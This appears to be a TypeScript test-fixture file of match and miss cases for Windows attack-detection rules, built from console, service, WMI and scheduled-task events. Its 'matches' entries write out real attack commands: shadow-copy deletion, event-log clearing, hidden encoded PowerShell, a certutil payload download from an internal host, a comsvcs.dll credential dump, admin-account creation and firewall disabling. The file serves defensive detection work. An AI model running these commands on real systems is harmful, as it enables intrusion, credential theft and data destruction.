/** As constructed.ts, of rules on commands, whatever carried them, and on consoles. */
import type { Constructed } from './constructed.ts';
import { type Draft, stream } from './stream.ts';

/** A line typed into a console, as far as a rule looks at it. */
const typed = (text: string): Draft => ({
  kind: 'console',
  pieces: [{ direction: 'write', time: '2023-10-11T07:42:01.000Z', frame: 3, encoding: 'UTF-8', text: `${text}\r\n` }],
});
const service = (binaryPath: string): Draft => ({ kind: 'service', binaryPath });
const wmi = (commandLine: string): Draft => ({ kind: 'process', commandLine });
const task = (command: string, given: string): Draft => ({
  kind: 'task',
  actions: [{ type: 'command', command, arguments: given, workingDirectory: null, classId: null }],
});
const output = { role: 'stdout', name: 'RemCom_stdoutABCD4242', messagesRead: 3, bytesRead: 120 } as const;

export const CONSTRUCTED_COMMANDS: readonly Constructed[] = [
  {
    rule: 'command_discovery_user',
    matches: stream(typed('whoami /all')),
    misses: stream(typed('type whoami.txt'), wmi('notepad.exe c:\\whoami\\x.txt')),
  },
  {
    rule: 'command_discovery_accounts',
    matches: stream(wmi('cmd.exe /c net localgroup administrators')),
    misses: stream(typed('net user helper Secret1 /add'), typed('internet user')),
  },
  {
    rule: 'command_discovery_domain',
    matches: stream(typed('nltest /dclist:lab.local')),
    misses: stream(typed('nltest /sc_query:lab.local'), typed('net group helpers')),
  },
  {
    rule: 'command_discovery_system',
    matches: stream(task('cmd.exe', '/C systeminfo > %windir%\\Temp\\hVcnLpQe.tmp 2>&1')),
    misses: stream(typed('ipconfiguration'), typed('net stop spooler')),
  },
  {
    rule: 'command_discovery_files',
    matches: stream(typed('dir c:\\users')),
    misses: stream(typed('cd dir'), typed('directory')),
  },
  {
    rule: 'command_recovery_prevented',
    matches: stream(wmi('cmd.exe /c vssadmin.exe Delete Shadows /all /quiet')),
    misses: stream(wmi('vssadmin list shadows'), typed('bcdedit /enum')),
  },
  {
    rule: 'command_events_cleared',
    matches: stream(typed('wevtutil cl Security')),
    misses: stream(typed('wevtutil qe Security')),
  },
  {
    rule: 'command_powershell_hidden',
    matches: stream(service(`%COMSPEC% /C powershell -nop -w hidden -e ${'QQBB'.repeat(20)}`)),
    misses: stream(service('powershell.exe -ExecutionPolicy Bypass -File C:\\scripts\\inventory.ps1')),
  },
  {
    rule: 'command_download',
    matches: stream(typed('certutil -urlcache -split -f http://10.0.0.130/a.exe a.exe')),
    misses: stream(typed('certutil -hashfile a.exe'), typed('curl http://10.0.0.130/')),
  },
  {
    rule: 'command_credentials_dumped',
    matches: stream(wmi('rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\x.dmp full')),
    misses: stream(typed('reg query HKLM\\SAM'), typed('reg save HKLM\\SOFTWARE\\Vendor x.hiv')),
  },
  {
    rule: 'command_account_made',
    matches: stream(typed('net localgroup administrators helper /add')),
    misses: stream(typed('net user'), typed('net use x: \\\\server\\share')),
  },
  {
    rule: 'command_defence_disabled',
    matches: stream(wmi('netsh advfirewall set allprofiles state off')),
    misses: stream(wmi('netsh advfirewall show allprofiles state'), typed('sc stop spooler')),
  },
  {
    rule: 'command_into_local_pipe',
    matches: stream(service('cmd.exe /c echo qpwoei > \\\\.\\pipe\\qpwoei')),
    misses: stream(service('cmd.exe /c echo done > \\\\127.0.0.1\\C$\\out.txt')),
  },
  {
    rule: 'command_from_another_machine',
    matches: stream(service('\\\\10.0.0.130\\tools\\agent.exe -install')),
    misses: stream(service('\\\\127.0.0.1\\ADMIN$\\a1b2c3d.exe'), typed('dir \\\\10.0.0.130\\tools')),
  },
  {
    rule: 'tool_crackmapexec_powershell',
    matches: stream(wmi('cmd.exe /Q /c powershell.exe -exec bypass -noni -nop -w 1 -C "whoami"')),
    misses: stream(wmi('powershell.exe -NoProfile -NonInteractive -Command "Get-Date"')),
  },
  {
    rule: 'console_answered',
    matches: stream({ kind: 'console', ...output }),
    misses: stream({ kind: 'console', ...output, messagesRead: 0, bytesRead: 0 }, { kind: 'console', messagesRead: 2 }),
  },
  {
    rule: 'console_program_asked_for',
    matches: stream({ kind: 'console', role: 'control', name: 'PAExec-1-HR-PC.exe', tool: 'PAExec', command: 'cmd.exe' }),
    misses: stream({ kind: 'console', role: 'control', name: 'PSEXESVC', tool: 'PsExec', encrypted: true }),
  },
  {
    rule: 'console_password_sent',
    matches: stream({ kind: 'console', role: 'control', tool: 'PAExec', runAs: 'LAB\\admin', password: 'Secret1' }),
    misses: stream({ kind: 'console', role: 'control', tool: 'PAExec', runAs: 'LAB\\admin', password: '' }),
  },
];
